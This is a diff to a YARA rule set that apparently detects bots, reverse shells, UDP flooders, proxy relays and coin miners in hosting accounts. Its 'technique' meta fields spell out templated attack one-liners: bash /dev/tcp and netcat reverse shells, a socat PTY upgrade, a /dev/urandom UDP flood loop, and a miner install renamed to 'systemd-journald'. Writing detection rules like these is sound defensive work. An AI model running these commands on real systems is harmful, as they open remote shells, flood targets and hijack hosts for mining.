@@ -93,10 +93,16 @@ private rule hs_crontab_text
         $v2 = "SHELL=" ascii
         $v3 = "PATH=" ascii
     condition:
-        extension == "" and filesize < 64KB and
-        (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or
-         (uint8(0) >= 0x30 and uint8(0) <= 0x39) or $v1 at 0 or $v2 at 0 or $v3 at 0) and
-        ($at or $s1 or $s2)
+        filesize < 64KB and ($at or $s1 or $s2) and (
+        (extension == "" and
+         (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or
+          (uint8(0) >= 0x30 and uint8(0) <= 0x39) or $v1 at 0 or $v2 at 0 or $v3 at 0)) or
+        /* (train8) a crontab kept as crontab.txt (installed with `crontab
+           crontab.txt`): a job or a variable on its first line, not a comment
+           (a README.txt may start with one) */
+        (extension == "txt" and
+         (uint8(0) == 0x40 or uint8(0) == 0x2a or (uint8(0) >= 0x30 and uint8(0) <= 0x39) or
+          $v1 at 0 or $v2 at 0 or $v3 at 0)))
 }
 
 /* Text meant to be read, not run: documentation formats and web assets,
@@ -130,7 +136,7 @@ private rule hs_doc_file
             or not $php and not $php2 and (
             extension matches /^(md|markdown|mkd|rst|adoc|asciidoc|html?|xhtml|js|mjs|cjs|jsx|ts|tsx|json|css|scss|less|xml|svg|po|pot|pod|tex|[1-9]|man|ya?ml|csv|ipynb|vue|rtf|org)$/
             or any of ($f1, $f2, $f3, $f4, $f6, $f7, $f8, $f9, $f10, $f11, $f12)
-            or (extension == "txt" and not hs_lang_perl and not hs_lang_python)
+            or (extension == "txt" and not hs_lang_perl and not hs_lang_python and not hs_crontab_text)
             or (extension == "" and $f5 and not hs_lang_perl and not hs_lang_python and
                 not hs_crontab_text)
         ))
@@ -154,7 +160,7 @@ rule bot_revshell_dev_tcp : bot
         description = "Shell wired to a TCP/UDP connection through bash's /dev/tcp pseudo-device"
         severity = "critical"
         technique = "bash -i >& /dev/tcp/H/P 0>&1; exec N<>/dev/tcp/H/P with sh <&N or a read loop on N"
-        seen = "pre"
+        seen = "pre,train9"
     strings:
         // stdin of the shell duplicated from the connection (0>&1, 0<&1)
         $a1 = /\/dev\/(tcp|udp)\/[^\/\s"'`]{1,100}\/[^\s"'`;|&<>]{1,12}\s{0,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
@@ -173,6 +179,8 @@ rule bot_revshell_dev_tcp : bot
         $u2 = /\bread\s{1,4}(-r\s{1,4})?\w{1,20}\s{0,4}0?<\s{0,2}&\s{0,2}[0-9]{1,4}\b/
         $u3 = /\bdo\s{1,4}(eval\s{1,4})?["']?\$\{?\w{1,20}\}?["']?\s[^\n]{0,30}>\s{0,2}&\s{0,2}[0-9]{1,4}/
         $u4 = /<\s{0,2}&\s{0,2}[0-9]{1,4}\s{0,4}\|\s{0,4}while\s{1,4}read\b/
+        // (train9) bash's read -u N: while read -r -u 3 c; do bash -c "$c" >&3; done
+        $u5 = /\bread\s{1,4}(-[a-z]{1,3}\s{1,4}){0,3}-u\s{0,2}[0-9]{1,4}\s/
         // an audit script searching files for the idiom
         $g = /\b(grep|egrep|fgrep|rg|ack|ag)\s[^\n]{0,60}\/dev\/(tcp|udp)/
     condition:
@@ -186,7 +194,7 @@ rule bot_revshell_netcat_pipe : bot
         description = "Shell served over netcat/telnet/openssl: nc -e /bin/sh, or a shell piped to and from the connection"
         severity = "critical"
         technique = "nc -e/-c sh; mkfifo/mknod pipe: cat F | sh -i | nc H P > F; nc H P | sh; telnet H P | sh | telnet H P2"
-        seen = "pre"
+        seen = "pre,train9"
     strings:
         $e1 = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
         $e2 = /\b(nc|ncat|netcat|nc\.traditional)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?\$\{?SHELL\b/
@@ -197,6 +205,8 @@ rule bot_revshell_netcat_pipe : bot
         // an interactive shell's output goes into the connection
         $p3 = /\b(ba|z|k|da)?sh -i\b[^\n|]{0,40}\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
         // a shell fed from a named pipe, piped into the connection
+        // (train9) script(1) giving the shell a pty: cat F | script -qc /bin/bash /dev/null | nc H P > F
+        $p5 = /\bscript\s{1,4}(-[a-z]{1,3}\s{1,4}){0,2}-[a-z]{0,3}c\s{1,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b[^\n|]{0,40}\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
         $p4 = /(\/bin\/|\bbusybox\s{1,4})(ba|z|k|da)?sh (-i )?0?<\s{0,4}[^\s|;&]{1,60}\s{0,4}(2>&1\s{0,4})?\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
     condition:
         filesize < 2MB and not hs_doc_file and any of them
@@ -1358,23 +1368,25 @@ rule bot_udp_flood_loop : bot
         description = "UDP flooder: datagrams sent in a loop until a deadline to a target taken from argv or the request"
         severity = "high"
         technique = "$end = time() + $_GET['time']; while (time() < $end) fwrite(fsockopen('udp://'.$h, rand()), $pk); Perl SOCK_DGRAM send until time + $secs; Python sendto until time.time() + int(argv[3])"
-        seen = "none"
+        seen = "none,train9"
     strings:
         $d1 = /udp:\/\/["'$.{]/
         $d2 = "SOCK_DGRAM" ascii
         $d3 = "SOL_UDP" ascii
         $d4 = /Proto\s{0,4}=>\s{0,4}['"]udp['"]/
         $d5 = /getprotobyname\s{0,2}\(\s{0,2}['"]udp['"]/
+        // (train9) Ruby
+        $d6 = "UDPSocket.new" ascii
         // the target or the duration from outside
-        $in = /\$_(GET|POST|REQUEST|COOKIE)\b|\$argv\s{0,2}\[|\bsys\.argv\b|@ARGV|\$ARGV\s{0,2}\[|\bshift\s{0,2}(;|\|\||\)|or\b)|\binput\s{0,2}\(\s{0,2}['"]|\bargparse\b/
+        $in = /\$_(GET|POST|REQUEST|COOKIE)\b|\$argv\s{0,2}\[|\bsys\.argv\b|@ARGV|\$ARGV\s{0,2}\[|\bshift\s{0,2}(;|\|\||\)|or\b)|\binput\s{0,2}\(\s{0,2}['"]|\bargparse\b|\bARGV\s{0,2}\[/
         // the deadline: now + a duration, or now - start compared with one
-        $dl1 = /\btime\s{0,2}(\(\s{0,2}\))?\s{0,4}\+\s{0,4}[$(a-zA-Z0-9]/
+        $dl1 = /\b(time\s{0,2}(\(\s{0,2}\))?|Time\.now)\s{0,4}\+\s{0,4}[$(a-zA-Z0-9]/
         $dl2 = /\btime\s{0,2}\(\s{0,2}\)\s{0,4}-\s{0,4}\$?[a-zA-Z_]\w{0,30}\s{0,4}<\s{0,4}[$(a-zA-Z0-9]/
         $lp = /\b(while|for|until)\b\s{0,2}[(\w]/
         $sd = /\b(fwrite|fputs|socket_sendto|sendto|send)\s{0,2}\(|->\s{0,2}send\s{0,2}\(|\.send(to)?\s{0,2}\(/
         $sl = /\b(u?sleep|time\.sleep|select)\s{0,2}\(|\bsleep\s{1,4}[0-9$]/
         // round 7: Perl's statement modifier: $s->send($pk) while time < $end;
-        $pf = /\bsend\s{0,2}\([^\n;]{0,200}\)\s{0,2}(while|until)\s{1,4}(time|\$\w{1,30}\s{0,2}[<>])/
+        $pf = /\bsend\s{0,2}\([^\n;]{0,200}\)\s{0,2}(while|until)\s{1,4}(time|Time\.now|\$\w{1,30}\s{0,2}[<>])/
     condition:
         filesize < 1MB and not hs_doc_file and any of ($d*) and $in and ( ($pf and $dl1) or
             for any i in (1..#dl1) : ( for any j in (1..#lp) : ( @lp[j] > @dl1[i] and @lp[j] < @dl1[i] + 400 and
@@ -3555,7 +3567,7 @@ rule bot_proxy_relay_server : bot
     strings:
         $ac = /\baccept\b|\bstream_socket_accept\s{0,2}\(|\bsocketserver\.\w{0,12}TCPServer\b|\bBaseRequestHandler\b|\bsocket_accept\s{0,2}\(/
         $h1 = /\bunpack\s{0,2}\(\s{0,2}['"](>|!)?(CCnN|CCn|BBH|BBHI|BBH4s)['"]/
-        $h2 = /['"]\/?\^?CONNECT\s{1,2}[(\[\\]/
+        $h2 = /['"\/{]\^?CONNECT\s{1,2}[(\[\\]|(==|\beq)\s{0,2}b?['"]CONNECT['"]|\bstartswith\s{0,2}\(\s{0,2}b?['"]CONNECT\b/
         $rp1 = /\b(0|0x00)\s{0,2},\s{0,2}(90|0x5a)\b|\\x00\\x5a|\\x5a\\x00/
         $rp2 = /200 Connection established/ nocase
         $up = /\bstream_socket_client\s{0,2}\(|\bcreate_connection\s{0,2}\(|PeerAddr\s{0,2}=>|\.connect\s{0,2}\(|\bsocket_connect\s{0,2}\(|\bfsockopen\s{0,2}\(/
@@ -3584,4 +3596,81 @@ rule bot_webroot_reinstaller_loop : bot
         $web = /public_html|wp-includes|wp-content|wp-admin|httpdocs|htdocs|\/www\//
     condition:
         filesize < 128KB and not hs_doc_file and $lp and $sl and $ck and $fe and $ro and $web
+}
+
+/* A shell flooder: random bytes written to bash's /dev/udp (or /dev/tcp)
+ * device of a target in variables, many at once in a loop. A port check
+ * opens /dev/tcp/host/port once and writes nothing random. */
+rule bot_shell_dev_udp_flood : bot
+{
+    meta:
+        description = "Shell flooder: /dev/urandom written to /dev/udp/$host/$port in a loop, in the background"
+        severity = "high"
+        technique = "while [ $SECONDS -lt $end ]; do for i in $(seq 1 64); do head -c 1400 /dev/urandom > /dev/udp/$1/$2 & done; wait; done"
+        seen = "train9"
+    strings:
+        $w = /\/dev\/urandom[^\n]{0,60}>\s{0,2}\/dev\/(udp|tcp)\/["']?\$/
+        $lp = /\b(while|until|for)\s/
+    condition:
+        filesize < 128KB and not hs_doc_file and $w and $lp
+}
+
+/* A miner's config file where the miner was unpacked: an xmrig-style JSON
+ * with a pool list whose user is a wallet-length address, and the miner's
+ * own keys (donate-level, max-threads-hint, randomx). A hosting account has
+ * no business with one. */
+rule bot_miner_config_file : bot
+{
+    meta:
+        description = "Coin miner configuration (xmrig-style pools with a wallet address and miner keys)"
+        severity = "high"
+        technique = "config.json: {\"cpu\": {\"max-threads-hint\": 100}, \"pools\": [{\"url\": \"pool:3333\", \"user\": \"4...95 chars\"}], \"donate-level\": 0}"
+        seen = "train9"
+    strings:
+        $po = /["']pools["']\s{0,2}:\s{0,2}\[\s{0,16}\{[^\]]{0,300}["']url["']\s{0,2}:\s{0,2}["'][\w.+\/:-]{1,80}:[0-9]{2,5}["']/
+        $u = /["']user["']\s{0,2}:\s{0,2}["'][0-9A-Za-z]{60}/
+        $k = /["'](donate-level|max-threads-hint|randomx|donate-over-proxy|cpu-priority)["']/
+    condition:
+        filesize < 64KB and $po and $u and $k
+}
+
+/* A miner installed from an archive: fetched, unpacked, the binary renamed
+ * or its thread hint set from the CPU count, and started detached with the
+ * config beside it. bot_miner_launcher asks for the pool on the command
+ * line; here the pool is in the config. */
+rule bot_miner_archive_install : bot
+{
+    meta:
+        description = "Miner installer: an archive fetched and unpacked, started detached with its config.json, the miner renamed or its CPU use tuned"
+        severity = "high"
+        technique = "curl -o x.tgz U && tar xzf x.tgz; mv xmr* systemd-journald; nohup ./systemd-journald -c config.json & | urlretrieve(U); tarfile.open().extractall(); cfg['cpu']['max-threads-hint'] = ...; Popen([bin, '--config', cfg], start_new_session=True)"
+        seen = "train9"
+    strings:
+        $f = /\b(curl|wget|urlretrieve|urlopen|getstore|file_get_contents|copy)\b[^\n]{0,200}\.(tgz|tar\.gz|tar\.xz|zip)\b/
+        $t = /\btar\s{1,4}-?[a-zA-Z]{0,4}x|\btarfile\.open\b|\bextractall\s{0,2}\(|\bunzip\s|\bPharData\b|\bArchive::Tar\b/
+        $c = /(\s-c\s{1,4}|--config[= ]|['"]--config['"]\s{0,2},\s{0,2}|['"]-c['"]\s{0,2},\s{0,2})[^\n]{0,60}config\.json/
+        $m1 = /\bmv\s{1,4}["']?xmr/
+        $m2 = /max-threads-hint|donate-level|\bxmrig\b/
+        $d = /\bnohup\s|\bstart_new_session\s{0,2}=\s{0,2}True|\bsetsid\b|\bscreen\s{1,4}-dm|\bdisown\b|>\s{0,2}\/dev\/null\s{0,4}2>&1\s{0,4}&/
+    condition:
+        filesize < 256KB and not hs_doc_file and $f and $t and $c and any of ($m*) and $d
+}
+
+/* A PTY upgrade: the terminal joined raw to a TCP connection with socat
+ * (file:`tty`,raw,echo=0 tcp:H:P) falling back to a Python pty.spawn of a
+ * shell. An admin's notes quote it; a script that runs it is a session
+ * handed to someone. */
+rule bot_pty_upgrade_script : bot
+{
+    meta:
+        description = "Reverse-shell PTY upgrade in a script: socat raw tty to a TCP peer, stty raw -echo, python pty.spawn of a shell"
+        severity = "high"
+        technique = "stty raw -echo; socat file:`tty`,raw,echo=0 tcp:H:P || python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"
+        seen = "train9"
+    strings:
+        $s = /\bsocat\s{1,4}[^\n]{0,40}raw,echo=0[^\n]{0,100}\b(tcp[46]?|tcp-connect|openssl):/ nocase
+        $py = /\bpty\.spawn\s{0,2}\(\s{0,2}\\?["'](\/usr)?\/bin\/(ba|z|k|da)?sh/
+        $st = /\bstty\s{1,4}raw\s{1,4}-echo\b/
+    condition:
+        filesize < 64KB and not hs_doc_file and $s and ($py or $st)
 }
